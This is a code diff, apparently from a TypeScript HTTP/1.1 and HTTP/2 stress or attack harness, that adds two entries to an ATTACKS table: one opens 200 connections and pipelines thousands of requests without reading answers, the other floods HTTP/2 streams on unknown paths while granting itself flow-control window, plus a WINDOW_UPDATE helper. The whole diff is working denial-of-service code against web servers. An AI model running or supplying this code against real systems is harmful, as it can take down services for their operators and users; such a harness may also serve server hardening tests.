@@ -85,6 +85,32 @@ export const ATTACKS = {
     keep(2, target, (socket) => {
       writeOnce(socket, Buffer.concat(Array.from({ length: 2_000 }, () => get("/x"))));
     }),
+  /** Requests as short as there are, as many as are taken, and no answer is read. */
+  unreadPipelines: (target) =>
+    keep(200, target, (socket) => {
+      socket.pause();
+      const many = Buffer.from("GET / HTTP/1.1\r\n\r\n".repeat(3_400));
+      const more = () => {
+        while (socket.writable && socket.write(many));
+      };
+      socket.on("drain", more);
+      more();
+    }),
+  /** Unknown paths, as fast as they are answered, a hundred at a time on each connection. */
+  unknownPaths: (target) =>
+    keep(4, target, (socket) => {
+      let asked = 0;
+      function ask(): Buffer {
+        asked += 1;
+        return frames.headers(2 * asked - 1, frames.post("/x"), frames.END_STREAM);
+      }
+      socket.write(Buffer.concat([frames.opening(), ...Array.from({ length: 100 }, ask)]));
+      socket.on("data", (answers) => {
+        // An answer has about 300 bytes.
+        const next = Array.from({ length: Math.ceil(answers.length / 300) }, ask);
+        socket.write(Buffer.concat([windowOf(answers.length), ...next]));
+      });
+    }),
   /** Frames that carry nothing and that the server has to answer or to look at. */
   emptyFrames: (target) => {
     for (const bytes of EMPTY_FRAMES) flood(target, bytes);
@@ -167,6 +193,13 @@ function opening(
   const streams = Array.from({ length: count }, (_, index) => stream(index));
   const begin = frames.frame(frames.FRAME.settings, 0, 0, settings);
   return Buffer.concat([frames.PREFACE, begin, ...streams]);
+}
+
+/** Lets the server send so many bytes more on a connection. */
+function windowOf(bytes: number): Buffer {
+  const payload = Buffer.alloc(4);
+  payload.writeUInt32BE(bytes);
+  return frames.frame(WINDOW_UPDATE, 0, 0, payload);
 }
 
 function resetStreams(code: number): Buffer {
